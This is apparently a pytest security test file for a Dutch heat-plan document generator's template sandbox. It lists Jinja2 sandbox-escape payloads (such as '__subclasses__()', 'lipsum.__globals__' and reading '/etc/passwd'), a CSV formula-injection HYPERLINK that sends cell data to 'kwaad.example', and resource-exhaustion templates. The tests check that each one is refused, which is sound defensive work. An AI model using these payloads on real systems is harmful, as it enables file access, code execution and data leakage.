"""Safe and whole: the template sandbox, injections, and a located answer for every template
problem. Each case was reproduced as an attacker or a careless user would do it; none may
write a file, read one, run a formula in Excel, or end in the generic message."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner

from generator.cli import hoofd
from generator.paden import standaard_sjablonen

from .conftest import na_de_startbijeenkomst
from .test_notitie import _sjabloon


def bouw(*args):
    return CliRunner().invoke(hoofd, ["bouw", *map(str, args)], catch_exceptions=False)


def _toml_kopie(map_: Path, naam: str, vervang: tuple[str, str] | None = None, tekst: str | None = None) -> Path:
    map_.mkdir(exist_ok=True)
    inhoud = tekst if tekst is not None else (standaard_sjablonen() / naam).read_text(encoding="utf-8")
    if vervang:
        assert vervang[0] in inhoud
        inhoud = inhoud.replace(*vervang)
    (map_ / naam).write_text(inhoud, encoding="utf-8")
    return map_


# -- 1. the sandbox: templates see data only ------------------------------------------------
ONTSNAPPINGEN = [
    "{{ hittekaart.tpl.write_xml('/tmp/hitteplan-ontsnapt') }}",
    "{{ hittekaart.tpl.save('/tmp/hitteplan-ontsnapt.docx') }}",
    "{{ hittekaart['tpl'].get_file_crc('/etc/passwd') }}",
    "{{ (hittekaart|attr('tpl')).docx.part.package }}",
    "{{ wb.__class__.__mro__ }}",
    "{{ wb|attr('__class__') }}",
    "{{ wb['__class__'] }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ tijdvak.__globals__ }}",
    "{{ tijdvak.__code__ }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ (wb.stakeholders|first).__reduce__() }}",
    "{{ wb.plekken.velden.__class__ }}",
    "{% set x = wb.stakeholders|list %}{{ x.append(1) }}",
    "{{ notitie.datum.__class__ }}",
]


@pytest.mark.parametrize("alinea", ONTSNAPPINGEN)
def test_sjabloon_kan_niet_uit_de_zandbak(voorbeeld, tmp_path, alinea):
    """A template under --sjablonen can only read the workbook's data: no file written, read
    or copied, by any route (dot, subscript, |attr), and a sentence naming the template."""
    eigen = _sjabloon(tmp_path / "kwaad", "{%p if hittekaart %}", "{{ hittekaart }}", "{%p endif %}", alinea)
    uit = tmp_path / "uit"
    resultaat = bouw(voorbeeld, "-o", uit, "--sjablonen", eigen)
    assert resultaat.exit_code == 1, resultaat.output
    laatste = resultaat.output.strip().splitlines()[-1]
    assert laatste.startswith("Sjabloon 'bestuurlijke-notitie.docx': ")
    assert "onverwachts" not in resultaat.output and "Traceback" not in resultaat.output
    assert not Path("/tmp/hitteplan-ontsnapt").exists() and not Path("/tmp/hitteplan-ontsnapt.docx").exists()
    assert not uit.exists()


def test_afbeelding_in_het_sjabloon_is_een_tekst_en_wordt_een_afbeelding(voorbeeld, tmp_path):
    """A template gets a plain text for a picture, never an object; the picture lands where
    the text stood, with its alt text."""
    eigen = _sjabloon(tmp_path / "eigen", "Kaart:", "{{ hittekaart }}", "Soort: {{ hittekaart is string }}")
    uit = tmp_path / "uit"
    assert bouw(voorbeeld, "-o", uit, "--sjablonen", eigen).exit_code == 0
    doc = docx.Document(uit / "bestuurlijke-notitie.docx")
    assert [p.text for p in doc.paragraphs] == ["Kaart:", "", "Soort: True"]
    assert doc.paragraphs[1]._p.xpath(".//pic:pic") and len(doc.inline_shapes) == 1
    assert doc.inline_shapes[0]._inline.docPr.get("descr").startswith("Hittekaart van Heuvelmonde")


def test_zandbak_geldt_ook_voor_teksten(voorbeeld, tmp_path):
    eigen = _toml_kopie(tmp_path / "eigen", "presentatie.toml",
                        ('titel = "Welkom: waarom we hier vandaag zijn"',
                         'titel = "{{ wb.__class__.__init__.__globals__ }}"'))
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert resultaat.output.strip().splitlines()[-1] == (
        "Sjabloon 'presentatie.toml', tekst 'welkom.titel': een tag probeert iets wat in een sjabloon niet mag.")


# -- 3. CSV formula injection and e-mail addresses ------------------------------------------
def _als_tekst(wb):
    """Cells that begin with '=' as text, as Excel keeps them after a leading apostrophe (openpyxl
    would otherwise write them as formulas)."""
    for rij in wb["Stakeholders"].iter_rows():
        for cel in rij:
            if isinstance(cel.value, str) and cel.value.startswith("="):
                cel.data_type = "s"


def test_csv_voert_geen_formules_uit(maak_werkboek, gegevens, tmp_path):
    na_de_startbijeenkomst(gegevens)  # invitations for the dialogue go to everyone
    kwaad = '=HYPERLINK("http://kwaad.example/?"&A1;"klik")'
    gegevens["Stakeholders"][-1]["Organisatie"] = kwaad  # no other sheet refers to it
    gegevens["Stakeholders"][6]["Contactpersoon"] = "+31 kwaad"
    gegevens["Stakeholders"][7]["Contactpersoon"] = "@SUM(1+1)"
    gegevens["Stakeholders"][8]["Contactpersoon"] = "-2+3"
    uit = tmp_path / "uit"
    assert bouw(maak_werkboek(gegevens, wijzig=_als_tekst), "-o", uit).exit_code == 0
    tekst = (uit / "uitnodigingen" / "uitnodigingen.csv").read_bytes().decode("utf-8-sig")
    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert all(not veld.startswith(("=", "+", "-", "@", "\t", "\r")) for rij in rijen for veld in rij)
    velden = {veld for rij in rijen for veld in rij}
    assert f"'{kwaad}" in velden and "'+31 kwaad" in velden and "'@SUM(1+1)" in velden and "'-2+3" in velden


@pytest.mark.parametrize("adres", ["=1+1@evil.nl", "+31@x.nl", "jan..jansen@heuvelmonde.nl", "jan@heuvelmonde",
                                   "Jan <jan@heuvelmonde.nl>"])
def test_e_mailadressen_echt_gecontroleerd(maak_werkboek, gegevens, adres):
    gegevens["Stakeholders"][0]["E-mail"] = adres
    uit = CliRunner().invoke(hoofd, ["controleer", str(maak_werkboek(gegevens, wijzig=_als_tekst))],
                             catch_exceptions=False)
    assert uit.exit_code == 1
    assert (f"Fout: Blad 'Stakeholders', cel E2: '{adres}' is geen geldig e-mailadres; verwacht bijvoorbeeld "
            "naam@gemeente.nl") in uit.output.splitlines()


# -- 10. every template problem gets its own sentence ---------------------------------------
SJABLOONFOUTEN = [
    ("brieven.toml", ('onderwerp = "Uitnodiging:', 'ondewerp = "Uitnodiging:'),
     "Sjabloon 'brieven.toml': de tekst 'onderwerp' ontbreekt."),
    ("brieven.toml", ("dagen_vooraf = 21", 'dagen_vooraf = "drie weken"'),
     "Sjabloon 'brieven.toml': 'dagen_vooraf' moet een getal zijn."),
    ("presentatie.toml", ('titel = "Welkom: waarom we hier vandaag zijn"', "titel = 42"),
     "Sjabloon 'presentatie.toml': 'welkom.titel' moet een tekst zijn."),
    ("presentatie.toml", ('koppen = ["Tijd", "Onderdeel", "Werkvorm", "Wie"]', 'koppen = "Tijd"'),
     "Sjabloon 'presentatie.toml': 'programma.koppen' moet een lijst met teksten zijn."),
    ("afbeeldingen.toml", ("breedte_mm = 150", 'breedte_mm = "groot"'),
     "Sjabloon 'afbeeldingen.toml': 'hittekaart.breedte_mm' moet een getal zijn."),
    ("afbeeldingen.toml", ("breedte_mm = 150", "breedte_mm = 100000"),
     "Sjabloon 'afbeeldingen.toml': 'hittekaart.breedte_mm' moet tussen 5 en 400 (millimeter) liggen."),
    ("presentatie.toml", ('titel = "Programma"', 'titel = "{{ 1/0 }}"'),
     "Sjabloon 'presentatie.toml', tekst 'programma.titel': een berekening deelt door nul."),
    ("uitnodiging.txt", ("Met vriendelijke groet,", "{% include 'geheim.txt' %}"),
     "Sjabloon 'uitnodiging.txt', de e-mailtekst: {% include %}, {% import %} en {% extends %} kunnen niet: zet "
     "de tekst zelf in het sjabloon."),
    ("voortgang.toml", ('naam = "na de dialoog doelen en maatregelen"', 'naam = ["na de dialoog"]'),
     "Sjabloon 'voortgang.toml': 'moment.na_dialoog.naam' moet een tekst zijn."),
]


@pytest.mark.parametrize(("naam", "vervang", "melding"), SJABLOONFOUTEN)
def test_sjabloonfout_met_eigen_zin(voorbeeld, tmp_path, naam, vervang, melding):
    eigen = _toml_kopie(tmp_path / "eigen", naam, vervang)
    uit = tmp_path / "uit"
    resultaat = bouw(voorbeeld, "-o", uit, "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (1, melding)
    assert not uit.exists()


def test_sjabloon_in_latin_1(voorbeeld, tmp_path):
    eigen = tmp_path / "eigen"
    eigen.mkdir()
    tekst = (standaard_sjablonen() / "uitnodiging.txt").read_text(encoding="utf-8") + "Tot ziens op de bijeenkomst, één keer per jaar."
    (eigen / "uitnodiging.txt").write_bytes(tekst.encode("latin-1", errors="replace"))
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1, "Sjabloon 'uitnodiging.txt' is geen UTF-8-tekst; sla het op met de codering UTF-8 (in Kladblok: Opslaan als "
           "> Codering: UTF-8).")


def test_rekenfout_in_een_word_sjabloon(voorbeeld, tmp_path):
    eigen = _sjabloon(tmp_path / "eigen", "Aantal: {{ 1 / 0 }}")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1, "Sjabloon 'bestuurlijke-notitie.docx': een berekening deelt door nul in de alinea 'Aantal: {{ 1 / 0 }}'.")


# -- 11. templates without limits ------------------------------------------------------------
def test_sjabloon_dat_niet_ophoudt(voorbeeld, tmp_path, monkeypatch):
    """Nested range(90000) loops would run for many minutes: stopped at the time limit, with
    a sentence naming the template."""
    from generator import sjabloon

    monkeypatch.setattr(sjabloon, "MAX_SECONDEN", 1)
    eigen = _sjabloon(tmp_path / "eigen", "{% for i in range(90000) %}{% for j in range(90000) %}{% endfor %}"
                                          "{% endfor %}klaar")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1, "Sjabloon 'bestuurlijke-notitie.docx': het invullen duurt langer dan 1 seconden; staat er een lus in die "
           "niet ophoudt, of een heel grote {% for %}?")


@pytest.mark.parametrize("alinea", ["{{ 'x' * 100000000 }}", "{{ 'x'.ljust(100000000) }}", "{{ 10 ** 100000000 }}"])
def test_sjabloon_dat_te_veel_maakt(voorbeeld, tmp_path, alinea):
    eigen = _sjabloon(tmp_path / "eigen", alinea)
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert resultaat.output.strip().splitlines()[-1].startswith("Sjabloon 'bestuurlijke-notitie.docx': ")


# -- found by a hostile review of the fixes above ---------------------------------------------
def test_teksten_hebben_ook_een_tijdslimiet(voorbeeld, tmp_path, monkeypatch):
    from generator import sjabloon

    monkeypatch.setattr(sjabloon, "MAX_SECONDEN", 1)
    eigen = _toml_kopie(tmp_path / "eigen", "presentatie.toml",
                        ('titel = "Programma"', 'titel = "{% for i in range(100000) %}{% for j in range(100000) %}'
                                                '{% endfor %}{% endfor %}Programma"'))
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1, "Sjabloon 'presentatie.toml': het invullen duurt langer dan 1 seconden; staat er een lus in die niet "
           "ophoudt, of een heel grote {% for %}?")


@pytest.mark.parametrize("alinea", [
    "{{ ((((9**64)**64)**64)**64)**64 > 1 }}",
    "{{ ('x'|center(3000000000))|length }}",
    "{{ ('x'|indent(3000000000))|length }}",
    "{{ '{:>1000000000}'.format(1) }}",
    "{{ '%01000000000d'|format(1) }}",
    "{% set ns = namespace(t='x' * 15000000) %}{{ (ns.t + ns.t)|length }}",
])
def test_sjabloon_kan_geen_reusachtige_tekst_maken(voorbeeld, tmp_path, alinea):
    eigen = _sjabloon(tmp_path / "eigen", alinea)
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    laatste = resultaat.output.strip().splitlines()[-1]
    assert laatste.startswith("Sjabloon 'bestuurlijke-notitie.docx': "), laatste
    assert "onverwachts" not in resultaat.output


def test_word_document_dat_uitgepakt_te_groot_wordt(voorbeeld, tmp_path, monkeypatch):
    """A few bytes of docx that unpack to a huge document: refused by its unpacked size."""
    from generator import sjabloon

    monkeypatch.setattr(sjabloon, "MAX_UITGEPAKT", 2_000_000)
    eigen = _sjabloon(tmp_path / "eigen", "{%p for i in range(30) %}", "{{ 'x' * 100000 }}", "{%p endfor %}")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1, "Sjabloon 'bestuurlijke-notitie.docx': het ingevulde document wordt groter dan 200 MB; staat er een lus "
           "in die te veel herhaalt?")


def test_fout_in_de_kopregel_wordt_daar_genoemd(voorbeeld, tmp_path):
    eigen = _sjabloon(tmp_path / "eigen", "Onderwerp")
    doc = docx.Document(eigen / "bestuurlijke-notitie.docx")
    doc.sections[0].header.paragraphs[0].text = "{{ onbekend_in_kop }}"
    doc.save(eigen / "bestuurlijke-notitie.docx")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1, "Sjabloon 'bestuurlijke-notitie.docx': onbekende naam 'onbekend_in_kop' in de kop- of voettekst.")
    doc = docx.Document(eigen / "bestuurlijke-notitie.docx")
    doc.sections[0].header.paragraphs[0].text = ""
    doc.core_properties.title = "{{ 1/0 }}"
    doc.save(eigen / "bestuurlijke-notitie.docx")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.output.strip().splitlines()[-1] == (
        "Sjabloon 'bestuurlijke-notitie.docx': een berekening deelt door nul in de documenteigenschappen (titel, "
        "onderwerp).")


@pytest.mark.parametrize(("vervang", "melding"), [
    (('bijeenkomst = "{{ soort }}"', 'bijeenkomst = "{{ soort.__class__.__mro__ }}"'),
     "Sjabloon 'voortgang.toml', tekst 'overzicht.bijeenkomst': een tag probeert iets wat in een sjabloon niet mag."),
    (('bijeenkomst = "{{ soort }}"', 'bijeenkomst = "Bijeenkomst {{"'),
     "Sjabloon 'voortgang.toml', tekst 'overzicht.bijeenkomst': een tag is onjuist geschreven (sluit elke {{ af met }} "
     "en elke {% met %})."),
    (('blad = "Overzicht"', 'blad = "Over/zicht"'),
     "Sjabloon 'voortgang.toml': 'overzicht.blad' is geen geldige naam voor een Excel-blad (hoogstens 31 tekens, "
     "zonder : \\ / ? * [ ])."),
])
def test_koppen_van_het_overzicht_in_de_zandbak(tmp_path, maak_werkboek, vervang, melding):
    import shutil

    map_ = tmp_path / "regio"
    map_.mkdir()
    shutil.move(maak_werkboek(naam="a.xlsx"), map_ / "a.xlsx")
    eigen = _toml_kopie(tmp_path / "eigen", "voortgang.toml", vervang)
    resultaat = bouw(map_, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (1, melding)
    assert not (tmp_path / "uit").exists()  # refused before any work


def test_stuurtekens_in_het_overzicht(tmp_path, maak_werkboek):
    import shutil

    import openpyxl

    map_ = tmp_path / "regio"
    map_.mkdir()
    shutil.move(maak_werkboek(naam="a.xlsx"), map_ / "a\x01b.xlsx")
    shutil.copy(tmp_path / "hittekaart-heuvelmonde.png", map_)
    eigen = _toml_kopie(tmp_path / "eigen", "voortgang.toml", ('werkboek = "Werkboek"', 'werkboek = "Werk\\u0007boek"'))
    resultaat = bouw(map_, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 0, resultaat.output
    ws = openpyxl.load_workbook(tmp_path / "uit" / "overzicht-regio.xlsx").active
    assert (ws["A1"].value, ws["A2"].value) == ("Werkboek", "ab.xlsx")


# -- a template cannot load another one, by any name ----------------------------------------
def _naam_van(bron: str) -> str:
    """The name the environment gives a compiled source (what an attacker can work out)."""
    import hashlib

    from generator.sjabloon import omgeving

    env = omgeving(autoescape=False, regels_wegknippen=False)
    return hashlib.sha256(repr(env._sleutel(bron)).encode("utf-8", "surrogatepass")).hexdigest()


@pytest.mark.parametrize("tag", ["{% include '{naam}' %}", "{% include '{naam}' ignore missing %}",
                                 "{% import '{naam}' as x %}", "{% extends '{naam}' %}",
                                 "{% include ['{naam}', 'x'] %}", "{% include 'bestaat-niet' ignore missing %}"])
def test_sjabloon_laadt_geen_ander_sjabloon(voorbeeld, tmp_path, tag):
    """{% include %}, {% import %} and {% extends %} are refused whatever the name, also the
    name of a text compiled earlier in the same run (a checksum anyone can work out), also
    with 'ignore missing': one sentence, exit 1, nothing written."""
    onderwerp = "GELEKT {{ s.organisatie }}"
    eigen = _toml_kopie(tmp_path / "kwaad", "brieven.toml",
                        ('onderwerp = "Uitnodiging: {{ b.naam|klein }} {{ alg.titel }}, {{ b.datum|datum_dag }}"',
                         f'onderwerp = "{onderwerp}"'))
    tekst = (standaard_sjablonen() / "uitnodiging.txt").read_text(encoding="utf-8")
    (eigen / "uitnodiging.txt").write_text(f"A {tag.replace('{naam}', _naam_van(onderwerp))} B\n{tekst}",
                                           encoding="utf-8")
    uit = tmp_path / "uit"
    resultaat = bouw(na_start_werkboek(tmp_path), "-o", uit, "--sjablonen", eigen)
    assert resultaat.exit_code == 1, resultaat.output
    assert resultaat.output.strip() == ("Sjabloon 'uitnodiging.txt', de e-mailtekst: {% include %}, {% import %} en "
                                        "{% extends %} kunnen niet: zet de tekst zelf in het sjabloon.")
    assert not uit.exists()


def na_start_werkboek(map_: Path) -> Path:
    import copy

    from generator.voorbeeld import GEGEVENS

    from .conftest import schrijf_werkboek

    return schrijf_werkboek(map_, na_de_startbijeenkomst(copy.deepcopy(GEGEVENS)))


def test_beschadigde_cache_wordt_opnieuw_gemaakt(voorbeeld, tmp_path, monkeypatch):
    """A file of the template cache that cannot be read back (cut short after its header,
    random bytes) is compiled again: the build succeeds and makes the same documents."""
    import os

    from generator import sjabloon

    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)
    sjabloon.omgeving.cache_clear()
    try:
        assert bouw(voorbeeld, "-o", tmp_path / "a").exit_code == 0
        bestanden = list((tmp_path / "tmp").rglob("hitteplan-*.cache"))
        assert len(bestanden) > 20
        for i, bestand in enumerate(bestanden):
            kop = bestand.read_bytes()[:15]
            bestand.write_bytes(kop + (os.urandom(40) if i % 2 else b"\x80\x04kapot"))
        sjabloon.omgeving.cache_clear()
        resultaat = bouw(voorbeeld, "-o", tmp_path / "b")
        assert resultaat.exit_code == 0, resultaat.output
        for naam in ("bestuurlijke-notitie.docx", "canvas-fase-2.docx", "presentatie-startbijeenkomst.pptx"):
            assert (tmp_path / "a" / naam).read_bytes() == (tmp_path / "b" / naam).read_bytes()
    finally:
        sjabloon.omgeving.cache_clear()


def test_alle_brieven_samen_een_tijdslimiet(monkeypatch):
    """Every letter of a run shares one budget: a template that takes nearly the limit of one
    document for each letter is stopped once the series has used the budget, not after the
    limit times the number of letters."""
    import time

    from generator import sjabloon
    from generator.fouten import SjabloonFout

    monkeypatch.setattr(sjabloon, "MAX_SECONDEN", 0.5)
    monkeypatch.setattr(sjabloon, "PER_DOCUMENT", 0.1)
    budget, einde = sjabloon.tijdbudget(4)
    assert budget == pytest.approx(0.9)
    begin = time.monotonic()
    with pytest.raises(SjabloonFout, match="het invullen duurt langer dan 0.9 seconden"):
        for _ in range(10):  # each alone within the limit of one document (0.5 s)
            with sjabloon.binnen_de_tijd("uitnodiging.txt", budget, einde):
                time.sleep(0.3)
    assert time.monotonic() - begin < 2


def test_tijdslimiet_ook_als_ctrl_c_genegeerd_wordt(monkeypatch):
    """A launcher that ignores Ctrl+C (SIGINT) for its children: the watchdog still stops a
    template, and the process's own setting is restored."""
    import signal
    import time

    from generator import sjabloon
    from generator.fouten import SjabloonFout

    vorige = signal.signal(signal.SIGINT, signal.SIG_IGN)
    try:
        begin = time.monotonic()
        with pytest.raises(SjabloonFout), sjabloon.binnen_de_tijd("canvas-fase-2.docx", 0.5):
            while time.monotonic() - begin < 5:  # a template's loop: Python code, no system call
                pass
        assert time.monotonic() - begin < 3
        assert signal.getsignal(signal.SIGINT) is signal.SIG_IGN
    finally:
        signal.signal(signal.SIGINT, vorige)


def test_geen_reusachtig_getal_door_vermenigvuldigen(voorbeeld, tmp_path):
    """Squaring a number again and again is one multiplication no watchdog can stop: refused
    when the result would pass 100,000 bits."""
    eigen = _sjabloon(tmp_path / "eigen", "{% set ns = namespace(x=10 ** 60) %}{% for i in range(40) %}"
                                          "{% set ns.x = ns.x * ns.x %}{% endfor %}{{ ns.x|string|length }}")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert resultaat.output.strip().splitlines()[-1].startswith(
        "Sjabloon 'bestuurlijke-notitie.docx': een tag probeert iets wat in een sjabloon niet mag")
    assert not (tmp_path / "uit").exists()


def test_canvas_zonder_tabel(voorbeeld, tmp_path):
    """A canvas template without its table (or whose filled-in text lost the page settings)
    gets a sentence, not the generic message."""
    eigen = tmp_path / "eigen"
    eigen.mkdir()
    doc = docx.Document()
    doc.add_paragraph("Canvas van {{ alg.gemeente }}")
    doc.save(eigen / "canvas-fase-2.docx")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert resultaat.output.strip().splitlines()[-1].startswith(
        "Sjabloon 'canvas-fase-2.docx': het canvas moet een tabel hebben")
    assert not (tmp_path / "uit").exists()
